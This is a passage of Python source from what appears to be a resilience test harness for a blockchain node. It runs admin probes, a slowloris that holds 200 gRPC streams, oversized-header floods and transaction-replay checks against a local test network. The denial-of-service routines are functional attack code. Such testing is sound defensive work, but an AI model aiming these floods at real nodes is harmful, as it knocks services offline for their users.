        with _NO_PROXY.open(req, timeout=timeout) as r:
            return f"http {r.status}", r.read(200).decode("utf-8", "replace").strip()
    except urllib.error.HTTPError as e:
        return f"http {e.code}", e.read(200).decode("utf-8", "replace").strip()
    except OSError as e:
        return "refused at connect", str(e)[:100]


def metric(target: Target, name: str, **labels: str) -> float:
    """One sample of the node's /metrics (0 if absent): `name{labels}` exactly."""
    with _NO_PROXY.open(f"http://{target.admin}/metrics", timeout=5.0) as r:
        text = r.read().decode()
    want = name + ("{" + ",".join(f'{k}="{v}"' for k, v in labels.items()) + "}" if labels else "")
    for line in text.splitlines():
        if line.startswith(want + " "):
            return float(line.rsplit(" ", 1)[1])
    return 0.0


async def admin_probes(target: Target) -> AttackResult:
    """Each odd admin request once; `extra["answers"]`: path -> "http NNN: first line"."""
    t0 = time.monotonic()
    tally = _Tally()
    answers: dict[str, str] = {}
    for method, path, body in ADMIN_PROBES:
        status, text = await asyncio.to_thread(_http, method, f"http://{target.admin}{path}", body)
        tally.sent += 1
        if status == "refused at connect":
            tally.refused_at_connect += 1
        tally.code(status)
        key = f"{method} {path}" + (f" {body!r}" if body is not None else "")
        answers[key] = f"{status}: {text.splitlines()[0] if text else ''}"[:DETAIL_CHARS]
    return tally.result("admin_probes", t0, "", answers=answers)


# -- what a careful attacker tries next -------------------------------------------------------


async def held_streams(
    target: Target,
    seconds: float,
    *,
    connections: int = 200,
    dribble_every: float = 2.0,
    port: str = "peer",
) -> AttackResult:
    """`connections` separate TCP connections, each holding one ConsensusStream open for
    `seconds` and writing one small (unsigned) message every `dribble_every` seconds: a
    slowloris. `extra["held"]`: streams that were open at the end."""
    t0 = time.monotonic()
    tally = _Tally()
    address = target.peer if port == "peer" else target.client
    deadline = t0 + seconds
    held = 0
    slow = pb.ConsensusMsg(
        scp_msg=b"x", signer=b"\0" * 32, signature=b"\0" * 64
    ).SerializeToString()

    async def one(k: int) -> None:
        nonlocal held
        ch = channel(address, **{"grpc.primary_user_agent": f"slow-{k}"})
        try:
            if not await connects(ch, timeout=min(CONNECT_TIMEOUT * 2, seconds)):
                tally.refused_at_connect += 1
                return
            call = consensus_stream(ch, seconds + 30)
            why = ""
            while time.monotonic() < deadline and not why:
                try:
                    await asyncio.wait_for(call.write(slow), 5.0)
                    tally.sent += 1
                except (grpc.RpcError, asyncio.InvalidStateError, TimeoutError) as e:  # fmt: skip
                    if isinstance(e, grpc.RpcError):
                        tally.error(e)
                    else:
                        tally.code("STREAM_CLOSED", type(e).__name__)
                    why = "ended"
                    break
                await asyncio.sleep(min(dribble_every, max(0.0, deadline - time.monotonic())))
            if not why:
                held += 1
                await _finish_stream(call, tally, timeout=10.0)
        finally:
            await ch.close()

    await asyncio.gather(*(one(k) for k in range(connections)))
    return tally.result("held_streams", t0, "", held=held, connections=connections)


async def oversized_metadata(
    target: Target, seconds: float, *, header_bytes: int = MIB, concurrency: int = 4
) -> AttackResult:
    """GetNodeConfig (client port) and GetLatestMsg (peer port) with one `header_bytes`
    header each, `concurrency` in flight, for `seconds`."""
    t0 = time.monotonic()
    tally = _Tally()
    pad = "a" * header_bytes
    chans = {"client": channel(target.client), "peer": channel(target.peer)}
    try:
        calls = []
        for port, ch in chans.items():
            if not await connects(ch):
                tally.refused_at_connect += 1
                continue
            method = CLIENT + "GetNodeConfig" if port == "client" else PEER + "GetLatestMsg"
            calls.append(
                ch.unary_unary(method, request_serializer=None, response_deserializer=None)
            )
        if not calls:
            return tally.result("oversized_metadata", t0, "refused at connect")
        deadline = time.monotonic() + seconds  # from when the connections are up

        async def worker(k: int) -> None:
            i = k
            while time.monotonic() < deadline:
                call = calls[i % len(calls)]
                i += 1
                tally.sent += 1
                try:
                    await call(b"", timeout=CALL_TIMEOUT, metadata=(("x-pad", pad),))
                    tally.code("OK")
                except grpc.RpcError as e:
                    tally.error(e)

        await asyncio.gather(*(worker(k) for k in range(concurrency)))
    finally:
        for ch in chans.values():
            await ch.close()
    return tally.result("oversized_metadata", t0, "", header_bytes=header_bytes)


async def replay_propose(
    target: Target,
    tx: Tx,
    *,
    next_tx: Tx | None = None,
    replays: int = 20,
    commit_timeout: float = 20.0,
) -> AttackResult:
    """A wallet pays once; an eavesdropper replays its exact ProposeTx request bytes
    `replays` times (half on the wallet's own connection while its first proposal is
    pending, half on a fresh connection after it committed). Codes: `result <name>` of each
    replay; `extra["committed_once"]`: its key images are in exactly one block. With
    `next_tx`, the wallet then pays it on the same session (`wallets["same session
    after replays"]`): replays must not have broken its session."""
    t0 = time.monotonic()
    tally = _Tally()
    ws = await wallet_auth(target.client, target.trust)
    if isinstance(ws, str):
        tally.refused_at_connect += ws == "UNAVAILABLE"
        return tally.result("replay", t0, f"wallet auth failed: {ws}")
    try:
        request = propose_request(ws, tx)
        first = await propose_raw(ws.channel, request)
        for _ in range(replays // 2):
            tally.sent += 1
            tally.code("result " + await propose_raw(ws.channel, request))
        t = time.monotonic()
        committed = await asyncio.to_thread(
            wait_committed, target.ledger_dir, tx.key_images, commit_timeout
        )
        first_s = round(time.monotonic() - t, 2) if committed else None
        ch = channel(target.client)
        try:
            for _ in range(replays - replays // 2):
                tally.sent += 1
                tally.code("result " + await propose_raw(ch, request))
        finally:
            await ch.close()
        wallets = {"replayed": WalletOutcome("OK", first, "", first_s)}
        if next_tx is not None:
            wallets["same session after replays"] = await pay(
                target, next_tx, ws, commit_timeout=commit_timeout
            )
    finally:
        await ws.channel.close()
    blocks = await asyncio.to_thread(_blocks_spending, target.ledger_dir, tx.key_images[0])
    return tally.result(
        "replay", t0, "",
        wallets,
        blocks_with_key_image=blocks, committed_once=blocks == 1,
    )  # fmt: skip


def _blocks_spending(ledger_dir: Path, key_image: bytes) -> int:
    """How many blocks of the ledger name `key_image` (a replay that committed twice
    would make this 2; the ledger should refuse that on its own)."""
    n = 0
    with LedgerDB(ledger_dir, readonly=True) as led:
        for data in led.iter_block_data(0, led.num_blocks()):
            n += key_image in data.contents.key_images
    return n


# -- a network under attack -------------------------------------------------------------------
ACCOUNTS = 12
LOAD_ACCOUNTS = 8  # the load generator's; the rest pay the probes
OUTPUTS = 4
RESTART_IF_GROWN_MB = 500.0


def probe_txs(d: Path) -> list[Tx]:
    """One payment per output of the probe accounts (none shares an input with the load)."""
    accts = sorted((d / "accounts").glob("account-*.json"))
    wallets = [Wallet(read_account_key(p)) for p in accts]
    rng = SeededRandom(3)
    txs: list[Tx] = []
    with LedgerDB(d / "node0" / "ledger", readonly=True) as led:
        for w in wallets[LOAD_ACCOUNTS:]:
            to = wallets[0].account.default_address
            for coin in w.unspent(led):
                b = TransactionBuilder(
                    w.account, fee=DEFAULT_MINIMUM_FEE, tombstone_block=led.num_blocks() + 5000
                )
                b.add_input(input_credentials(led, coin, rng))
                b.add_output(to, 1000 + len(txs))
                txs.append(b.build(rng))
    return txs


def load_dir(d: Path) -> Path:
    """A directory the load generator sees: the network file and the load's accounts."""
    ld = d / "load"
    (ld / "accounts").mkdir(parents=True, exist_ok=True)
    shutil.copy(d / "network.json", ld / "network.json")
    for p in sorted((d / "accounts").glob("account-*.json"))[:LOAD_ACCOUNTS]:
        shutil.copy(p, ld / "accounts" / p.name)
    return ld


def start_load(d: Path, rate: float) -> subprocess.Popen[bytes]:
    log = open(d / "load.log", "ab")  # noqa: SIM115 - owned by the child
    cmd = [sys.executable, "-m", "mcnode", "load", "--dir", str(load_dir(d))]
    cmd += ["--tx-rate", str(rate), "--duration", "86400", "--seed", "5"]
    p = subprocess.Popen(cmd, stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
    log.close()
    return p


def stop_process(p: subprocess.Popen[bytes]) -> None:
    if p.poll() is None:
        p.terminate()
        try:
            p.wait(10)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()
